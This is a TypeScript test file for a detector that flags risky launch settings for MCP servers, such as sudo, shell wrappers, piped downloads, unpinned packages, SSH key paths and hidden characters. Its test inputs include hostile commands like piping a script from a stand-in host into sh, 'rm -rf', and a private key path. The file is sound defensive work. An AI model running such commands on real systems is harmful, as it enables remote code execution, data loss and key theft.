import { describe, expect, it } from 'vitest';
import { launchDangers } from './launchDangers.ts';

const stdio = (command: string, ...args: string[]) => launchDangers({ kind: 'stdio', command, args, env: {} });

describe('launchDangers', () => {
  it.each([
    ['superuser', 'sudo', 'node', 'server.js'],
    ['superuser', '/usr/bin/pkexec', 'server'],
    ['shell', 'bash', '-c', 'node server.js'],
    ['shell', 'cmd.exe', '/c', 'npx server'],
    ['deletes', 'sh', '-c', 'rm -rf /tmp/x'],
    ['pipesDownload', 'sh', '-c', 'curl https://x.test/i.sh | sh'],
    ['unpinnedPackage', 'npx', '-y', '@scope/server'],
    ['unpinnedPackage', 'npx', '-y', 'server@latest'],
    ['unpinnedPackage', 'uvx', 'mcp-server-git'],
    ['homeOrKeys', 'server', '~/'],
    ['homeOrKeys', 'server', '/home/me/.ssh/id_ed25519'],
    ['hiddenCharacters', 'server', 'a\u202eb'],
  ])('finds %s in %s', (danger, command, ...args) => {
    expect(stdio(command, ...args)).toContain(danger);
  });

  it('finds nothing in plain launches', () => {
    expect(stdio('node', '/opt/server/index.js', 'stdio')).toEqual([]);
    expect(stdio('npx', '-y', '@modelcontextprotocol/server-everything@2026.8.31')).toEqual([]);
    expect(launchDangers({ kind: 'http', url: 'http://127.0.0.1:3000/mcp', headers: {} })).toEqual([]);
  });

  it('finds an address that is reached in clear', () => {
    expect(launchDangers({ kind: 'http', url: 'http://example.test/mcp', headers: {} })).toEqual(['plainHttp']);
  });
});
